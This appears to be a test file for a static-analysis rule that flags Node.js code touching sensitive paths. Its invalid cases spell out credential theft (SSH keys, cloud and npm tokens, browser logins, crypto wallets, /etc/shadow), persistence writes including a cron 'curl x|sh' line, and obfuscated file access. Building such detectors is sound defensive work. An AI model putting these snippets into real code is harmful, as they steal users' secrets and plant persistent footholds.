import rule from '../../rules/fs-sensitive-path.js';
import { ruleTester } from '../rule-tester.js';

const H = 'const fs = require("fs"), path = require("path"), os = require("os");\n';

ruleTester(rule, {
  valid: [
    H + 'fs.readFileSync("./package.json", "utf8");',
    H + 'fs.readFileSync(path.join(__dirname, "config.json"));',
    H + 'fs.writeFileSync(path.join(os.homedir(), ".myapp", "config.json"), data);',
    H + 'fs.appendFileSync(path.join(os.homedir(), ".myapp_history"), line);',
    H + 'require("dotenv").config(); fs.readFileSync(path.join(process.cwd(), ".env"));',
    H + 'fs.readFileSync(path.join(process.cwd(), ".npmrc"), "utf8");',
    H + 'fs.readFileSync(path.resolve(__dirname, "../.env.example"));',
    H + 'fs.existsSync("C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe");',
    H + 'fs.existsSync(path.join(process.env.LOCALAPPDATA, "Google/Chrome/Application/chrome.exe"));',
    H + 'fs.existsSync("/etc/hosts"); fs.readFileSync("/etc/os-release");',
    H + 'const password = "hunter2"; fs.readFileSync(passwordFile);',
    H + 'console.log("put your key in ~/.ssh/id_rsa"); // fs.readFileSync("~/.ssh/id_rsa")',
    H + 'fs.readFileSync(path.join(os.homedir(), ".gitconfig"), "utf8");',
    H + 'fs.readFileSync(path.join(os.homedir(), ".ssh", "known_hosts"), "utf8"); fs.readFileSync(path.join(os.homedir(), ".ssh/config"));',
    'const reader = { readFileSync(p) { return p } };\nreader.readFileSync("/etc/shadow");',
    H + 'fs.readFileSync(path.join(os.homedir(), dir, file));',
    H + 'fs.writeFileSync(path.join(os.tmpdir(), "out.txt"), data);',
  ],
  invalid: [
    {
      name: 'Object.entries over a literal map of token stores',
      code: H + 'const paths = { Discord: process.env.APPDATA + "\\\\discord", Chrome: process.env.LOCALAPPDATA + "\\\\Google\\\\Chrome\\\\User Data\\\\Default" };\nfor (const [name, p] of Object.entries(paths)) fs.readdirSync(p + "\\\\Local Storage\\\\leveldb");',
      errors: [{ messageId: 'credential', line: 3, column: 48, message: 'Discord tokens' }],
    },
    {
      code: H + '[{ dir: ".aws" }, { dir: ".kube" }].forEach(({ dir }) => fs.readdirSync(path.join(os.homedir(), dir)));',
      errors: [{ messageId: 'credential', line: 2, column: 58 }],
    },
    { code: H + 'fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"));', errors: [{ messageId: 'credential', line: 2, column: 1, message: 'SSH keys' }] },
    { code: H + 'fs.readFileSync(`${process.env.HOME}/.aws/credentials`, "utf8");', errors: [{ messageId: 'credential', line: 2, column: 1, message: 'AWS credentials' }] },
    { code: 'require("fs").readFileSync("~/.npmrc");', errors: [{ messageId: 'credential', line: 1, column: 1, message: 'npm credentials' }] },
    { code: H + 'const d = ".ss" + "h";\nfs.readdirSync(path.join(os.homedir(), d));', errors: [{ messageId: 'credential', line: 3, column: 1 }] },
    {
      code: H + '[".bash_profile", ".aws/credentials", ".npmrc"].forEach((f) => {\n  try { out.push(fs.readFileSync(path.join(os.homedir(), f))); } catch {}\n});',
      errors: [{ messageId: 'credential', line: 3, column: 18, message: 'AWS' }],
    },
    { code: H + 'for (const f of [".docker/config.json", ".kube/config"]) fs.readFile(path.join(os.homedir(), f), cb);', errors: [{ messageId: "credential", line: 2, column: 58 }] },
    { code: H + 'function grab(p) { return fs.readFileSync(path.join(os.homedir(), p)); }\ngrab(".git-credentials");', errors: [{ messageId: 'credential', line: 2, column: 27 }] },
    { code: H + 'fs.readFileSync(path.join(os.userInfo().homedir, ".netrc"));', errors: [{ messageId: 'credential', line: 2, column: 1 }] },
    { code: 'import { readFile } from "fs/promises"; import { homedir } from "os";\nawait readFile(homedir() + "/.kube/config");', filename: 'a.mjs', errors: [{ messageId: 'credential', line: 2, column: 7 }] },
    { code: H + 'fs.promises.readFile(path.resolve(os.homedir(), ".config/gcloud/application_default_credentials.json"));', errors: [{ messageId: 'credential', line: 2, column: 1 }] },
    { code: H + 'fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "node ~/.x.js &\\n");', errors: [{ messageId: 'persistence', line: 2, column: 1, message: 'shell start-up' }] },
    { code: H + 'fs.writeFileSync(path.join(os.homedir(), "Library/LaunchAgents/com.update.plist"), plist);', errors: [{ messageId: 'persistence', line: 2, column: 1 }] },
    {
      code: H + 'fs.writeFileSync(path.join(process.env.APPDATA, "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.vbs"), vbs);',
      errors: [{ messageId: 'persistence', line: 2, column: 1, message: 'Startup' }],
    },
    { code: H + 'fs.appendFileSync("/root/.ssh/authorized_keys", key);', errors: [{ messageId: 'persistence', line: 2, column: 1 }] },
    { code: H + 'fs.writeFileSync("/etc/cron.d/update", "* * * * * root curl x|sh");', errors: [{ messageId: 'persistence', line: 2, column: 1, message: 'cron' }] },
    {
      code: H + 'fs.copyFileSync(path.join(process.env.LOCALAPPDATA, "Google", "Chrome", "User Data", "Default", "Login Data"), tmp);',
      errors: [{ messageId: 'browser', line: 2, column: 1 }],
    },
    { code: H + 'fs.readFileSync(path.join(os.homedir(), ".mozilla/firefox", profile, "logins.json"));', errors: [{ messageId: 'browser', line: 2, column: 1 }] },
    { code: H + 'fs.readdirSync(path.join(os.homedir(), "AppData/Roaming/Exodus/exodus.wallet"));', errors: [{ messageId: 'wallet', line: 2, column: 1 }] },
    { code: H + 'fs.readdirSync(path.join(base, "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"));', errors: [{ messageId: 'wallet', line: 2, column: 1, message: 'MetaMask' }] },
    { code: H + 'fs.readFileSync("/etc/shadow", "utf8");', errors: [{ messageId: 'system', line: 2, column: 1 }] },
    { code: H + 'fs.writeFileSync(os.homedir() + "/.npmrc", "//registry.npmjs.org/:_authToken=" + t);', errors: [{ messageId: 'credentialWrite', line: 2, column: 1 }] },
    { code: H + 'fs.readFileSync(path.join(__dirname, "../../.env"), "utf8");', errors: [{ messageId: 'envFile', line: 2, column: 1 }] },
    { code: H + 'fs.readFileSync(path.resolve(os.homedir(), ".env"));', errors: [{ messageId: 'envFile', line: 2, column: 1 }] },
    { code: 'require("child_process").execSync("cat ~/.aws/credentials | base64");', errors: [{ messageId: 'command', line: 1, column: 1 }] },
    { code: 'const glob = require("glob");\nglob.sync(require("os").homedir() + "/.ssh/*");', errors: [{ messageId: 'credential', line: 2, column: 1 }] },
    { code: 'const f = require("f" + "s");\nf["read" + "FileSync"](process.env.USERPROFILE + "\\\\.ssh\\\\id_ed25519");', errors: [{ messageId: 'credential', line: 2, column: 1 }] },
    { code: 'const fse = require("fs-extra");\nfse.readJsonSync(require("os").homedir() + "/.docker/config.json");', errors: [{ messageId: 'credential', line: 2, column: 1 }] },
  ],
});
